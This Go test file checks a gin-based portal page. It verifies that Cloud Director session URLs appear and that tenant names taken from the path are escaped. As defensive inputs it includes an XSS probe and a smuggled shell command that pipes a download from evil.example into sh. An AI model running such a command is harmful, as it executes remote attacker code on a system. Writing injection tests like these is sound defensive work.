package portal

import (
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/gin-gonic/gin"
)

func get(t *testing.T, path string) *httptest.ResponseRecorder {
	t.Helper()
	gin.SetMode(gin.TestMode)
	engine := gin.New()
	for _, e := range (&Handler{SiteName: "west", PublicURL: "https://west.example"}).Endpoints().Open {
		engine.Handle(e.Method, e.Path, func(c *gin.Context) {
			if err := e.Do(c); err != nil {
				t.Error(err)
			}
		})
	}
	w := httptest.NewRecorder()
	engine.ServeHTTP(w, httptest.NewRequest(http.MethodGet, path, nil))
	return w
}

func TestPage_VCD70_theVerificationURIOpensIt(t *testing.T) {
	for path, want := range map[string]string{
		"/provider" + place:    "$SITE/cloudapi/1.0.0/sessions/provider",
		"/tenant/acme" + place: "$SITE/cloudapi/1.0.0/sessions |",
	} {
		w := get(t, path)
		if w.Code != http.StatusOK || !strings.Contains(w.Body.String(), want) {
			t.Errorf("%s: %d, lacks %q", path, w.Code, want)
		}
	}
}

// The organization's name in the path is anybody's to choose.
func TestPage_escapesWhatThePathSays(t *testing.T) {
	w := get(t, "/tenant/%3Cscript%3Ealert(1)")
	if strings.Contains(w.Body.String(), "<script>") {
		t.Error("the page runs what the path says")
	}
	_, shell, _ := strings.Cut(get(t, "/tenant/x';curl%20evil.example|sh;'"+place).Body.String(), "<pre>")
	if shell == "" || strings.Contains(shell, "evil") {
		t.Error("lines to paste into a shell hold what the path says")
	}
	if csp := w.Header().Get("Content-Security-Policy"); !strings.Contains(csp, "default-src 'none'") || !strings.Contains(csp, "frame-ancestors 'none'") {
		t.Errorf("Content-Security-Policy is %q", csp)
	}
}
